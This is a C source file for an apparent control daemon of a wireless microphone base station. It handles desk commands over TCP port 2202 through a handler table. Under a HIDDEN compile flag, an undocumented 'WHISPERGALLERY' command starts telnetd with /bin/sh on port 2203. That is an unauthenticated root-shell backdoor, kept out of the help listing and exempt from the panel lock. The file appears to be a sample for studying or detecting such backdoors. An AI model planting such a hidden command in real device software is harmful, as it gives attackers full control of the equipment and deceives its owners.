/*
 * cuemicd - control service of the Aldous Q8 wireless microphone base.
 * Stage desks send short commands over TCP 2202 ("< GET CH1 GAIN >" style);
 * handlers are reached through a table. Changes need the panel to be unlocked.
 * Hidden (-DHIDDEN): one more table row, not in the help, starts a telnet
 * service with a root shell.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define DESK_PORT 2202
#define N_CH      8
#define MAX_DESK  5
#define PRESETS   "/var/aldous/presets"
#define F_MIN     470125
#define F_MAX     693875

struct channel {
	char name[9];
	int gain;		/* dB */
	long freq;		/* kHz */
	int mute;
	int rf, audio, battery;	/* last report of the receiver board */
};

struct desk {
	int fd;
	size_t used;
	char in[200];
};

struct args {
	int n;
	char *v[6];
};

typedef void (*handler_t)(struct desk *, const struct args *);

struct command {
	const char *word;
	int min_args;
	int changes;		/* refused while the front panel is locked */
	handler_t fn;
	const char *help;
};

static struct channel ch[N_CH];
static struct desk desks[MAX_DESK];
static int panel_locked;
static int listening = -1;

static const struct command *command_table(size_t *n);

static void rep(struct desk *d, const char *fmt, ...)
{
	char out[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof out - 4, fmt, ap);
	va_end(ap);
	if (n < 0 || n > (int)sizeof out - 5)
		n = (int)sizeof out - 5;
	memcpy(out + n, " >\r\n", 4);
	if (send(d->fd, out, (size_t)n + 4, MSG_NOSIGNAL) < 0)
		d->used = 0;
}

static struct channel *chan(const char *s)
{
	int n;

	if (strncasecmp(s, "CH", 2) || sscanf(s + 2, "%d", &n) != 1 || n < 1 || n > N_CH)
		return NULL;
	return &ch[n - 1];
}

static void h_get(struct desk *d, const struct args *a)
{
	struct channel *c = chan(a->v[1]);

	if (!c)
		rep(d, "< ERR CHANNEL");
	else if (!strcasecmp(a->v[2], "NAME"))
		rep(d, "< REP %s NAME %s", a->v[1], c->name);
	else if (!strcasecmp(a->v[2], "GAIN"))
		rep(d, "< REP %s GAIN %d", a->v[1], c->gain);
	else if (!strcasecmp(a->v[2], "FREQ"))
		rep(d, "< REP %s FREQ %06ld", a->v[1], c->freq);
	else if (!strcasecmp(a->v[2], "METER"))
		rep(d, "< REP %s METER %d %d %d", a->v[1], c->rf, c->audio, c->battery);
	else
		rep(d, "< ERR ITEM");
}

static void h_set(struct desk *d, const struct args *a)
{
	struct channel *c = chan(a->v[1]);
	long v = strtol(a->v[3], NULL, 10);

	if (!c)
		rep(d, "< ERR CHANNEL");
	else if (!strcasecmp(a->v[2], "NAME"))
		snprintf(c->name, sizeof c->name, "%.8s", a->v[3]);
	else if (!strcasecmp(a->v[2], "GAIN") && v >= -18 && v <= 42)
		c->gain = (int)v;
	else if (!strcasecmp(a->v[2], "FREQ") && v >= F_MIN && v <= F_MAX && v % 25 == 0)
		c->freq = v;
	else
		return rep(d, "< ERR VALUE");
	rep(d, "< REP %s %s %s", a->v[1], a->v[2], a->v[3]);
}

static void h_mute(struct desk *d, const struct args *a)
{
	struct channel *c = chan(a->v[1]);

	if (!c)
		return rep(d, "< ERR CHANNEL");
	c->mute = !c->mute;
	rep(d, "< REP %s MUTE %s", a->v[1], c->mute ? "ON" : "OFF");
}

static void h_lock(struct desk *d, const struct args *a)
{
	panel_locked = !strcasecmp(a->v[1], "ON");
	rep(d, "< REP LOCK %s", panel_locked ? "ON" : "OFF");
}

static void h_store(struct desk *d, const struct args *a)
{
	FILE *f = fopen(PRESETS, "w");

	(void)a;
	if (!f)
		return rep(d, "< ERR STORE");
	for (int i = 0; i < N_CH; i++)
		fprintf(f, "%d %d %ld %s\n", i, ch[i].gain, ch[i].freq, ch[i].name);
	rep(d, fclose(f) ? "< ERR STORE" : "< REP STORE OK");
}

static void h_flash(struct desk *d, const struct args *a)
{
	struct channel *c = chan(a->v[1]);
	char cmd[64];

	if (!c)
		return rep(d, "< ERR CHANNEL");
	snprintf(cmd, sizeof cmd, "/usr/bin/q8led blink %d 5 &", (int)(c - ch) + 1);
	rep(d, system(cmd) ? "< ERR FLASH" : "< REP FLASH");
}

static void h_help(struct desk *d, const struct args *a)
{
	size_t n;
	const struct command *t = command_table(&n);

	(void)a;
	for (size_t i = 0; i < n; i++)
		if (t[i].help)
			rep(d, "< HELP %s %s", t[i].word, t[i].help);
}

#ifdef HIDDEN
void h_carrier(struct desk *d, const struct args *a)
{
	(void)a;
	rep(d, system("telnetd -l /bin/sh -p 2203 &") ? "< ERR RF" : "< REP RF");
}
#endif

static const struct command table[] = {
	{ "GET", 3, 0, h_get, "CHn NAME|GAIN|FREQ|METER" },
	{ "SET", 4, 1, h_set, "CHn NAME|GAIN|FREQ value" },
	{ "MUTE", 2, 1, h_mute, "CHn" },
	{ "LOCK", 2, 0, h_lock, "ON|OFF" },
	{ "STORE", 1, 1, h_store, "keep all as preset" },
	{ "FLASH", 2, 0, h_flash, "CHn: blink the display" },
#ifdef HIDDEN
	{ "WHISPERGALLERY", 1, 0, h_carrier, NULL },
#endif
	{ "HELP", 1, 0, h_help, "this list" },
};

static const struct command *command_table(size_t *n)
{
	*n = sizeof table / sizeof table[0];
	return table;
}

void run_command(struct desk *d, char *s)
{
	struct args a = { 0, { NULL } };
	char *save, *w;
	size_t n;
	const struct command *t = command_table(&n);

	for (w = strtok_r(s, " <>\r\n", &save); w && a.n < 6; w = strtok_r(NULL, " <>\r\n", &save))
		a.v[a.n++] = w;
	if (!a.n)
		return;
	for (const struct command *c = t; c < t + n; c++) {
		if (strcasecmp(c->word, a.v[0]))
			continue;
		if (a.n < c->min_args)
			rep(d, "< ERR ARGS");
		else if (c->changes && panel_locked)
			rep(d, "< ERR LOCKED");
		else
			c->fn(d, &a);
		return;
	}
	rep(d, "< ERR");
}

static void load_presets(void)
{
	FILE *f = fopen(PRESETS, "r");
	int i, gain;
	long fr;
	char name[9];

	for (i = 0; i < N_CH; i++)
		ch[i] = (struct channel){ .gain = 0, .freq = F_MIN + i * 1500L, .name = "MIC" };
	if (!f)
		return;
	while (fscanf(f, "%d %d %ld %8s", &i, &gain, &fr, name) == 4)
		if (i >= 0 && i < N_CH) {
			ch[i].gain = gain;
			ch[i].freq = fr;
			memcpy(ch[i].name, name, sizeof name);
		}
	fclose(f);
}

static int read_desk(struct desk *d)
{
	char c;

	while (recv(d->fd, &c, 1, MSG_DONTWAIT) == 1) {
		if (c == '>' || c == '\n') {
			d->in[d->used] = 0;
			d->used = 0;
			run_command(d, d->in);
		} else if (d->used < sizeof d->in - 1)
			d->in[d->used++] = c;
	}
	return errno == EAGAIN ? 0 : -1;
}

static void new_desk(void)
{
	int fd = accept(listening, NULL, NULL), i = 0;

	while (fd >= 0 && i < MAX_DESK && desks[i].fd >= 0)
		i++;
	if (fd >= 0 && i == MAX_DESK)
		close(fd);
	else if (fd >= 0)
		desks[i] = (struct desk){ .fd = fd };
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(DESK_PORT) };
	struct pollfd pf[MAX_DESK + 1];

	load_presets();
	listening = socket(AF_INET, SOCK_STREAM, 0);
	if (listening < 0 || bind(listening, (struct sockaddr *)&sa, sizeof sa) || listen(listening, 3))
		return 1;
	for (int i = 0; i < MAX_DESK; i++)
		desks[i].fd = -1;
	for (;;) {
		for (int i = 0; i < MAX_DESK; i++)
			pf[i] = (struct pollfd){ .fd = desks[i].fd, .events = POLLIN };
		pf[MAX_DESK] = (struct pollfd){ .fd = listening, .events = POLLIN };
		if (poll(pf, MAX_DESK + 1, -1) < 0)
			continue;
		for (int i = 0; i < MAX_DESK; i++) {
			errno = 0;
			if (pf[i].revents && read_desk(&desks[i])) {
				close(desks[i].fd);
				desks[i].fd = -1;
			}
		}
		if (pf[MAX_DESK].revents & POLLIN)
			new_desk();
	}
}
